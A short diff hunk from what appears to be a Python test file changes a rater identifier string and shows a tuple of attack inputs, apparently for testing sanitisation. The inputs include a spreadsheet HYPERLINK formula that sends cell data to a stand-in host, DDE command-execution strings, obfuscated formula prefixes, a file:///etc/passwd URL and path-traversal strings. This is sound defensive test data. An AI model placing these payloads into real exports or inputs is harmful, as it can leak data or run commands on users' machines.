@@ -8,7 +8,7 @@ from core.store import Store
 from core.types import Capture, ContactKind, ContactPoint, Document, Judgement, Lead, Provenance, SiteContext, Span
 
 NOW = datetime(2026, 11, 20, 22, 30, tzinfo=UTC)
-RATER = "model:linear@4f2c81d09ab3"
+RATER = "model:stack@4f2c81d09ab3"
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
     "\n=1+1", " =1+1", "＝1+1", "\u200b=1+1", "http://evil.example/x", "mailto:zq0@evil.example", "file:///etc/passwd", "../../../tmp/zq0evil", "/etc/zq0evil",
